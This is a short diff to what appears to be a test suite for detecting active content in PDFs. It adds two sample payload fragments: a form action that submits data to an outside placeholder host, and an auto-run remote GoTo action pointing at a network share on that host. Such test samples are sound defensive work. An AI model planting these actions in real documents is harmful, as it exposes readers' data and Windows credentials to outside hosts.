@@ -50,6 +50,8 @@ def with_action(pdf: bytes, action: bytes) -> bytes:
         b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>",
         b"/Names << /EmbeddedFiles << /Names [(a) << >>] >> >>",
         b"/AcroForm << /XFA (x) >>",
+        b"/AcroForm << /Fields [ << /T (a) /A << /S /SubmitForm /F (https://contoh.id) >> >> ] >>",
+        b"/AA << /O << /S /GoToR /F (\\\\\\\\contoh.id\\\\a) /D [0 /Fit] >> >>",
         b"/OpenAction [ << /S /GoTo /Next << /S /JavaScript /JS (x) >> >> ]",
     ],
 )
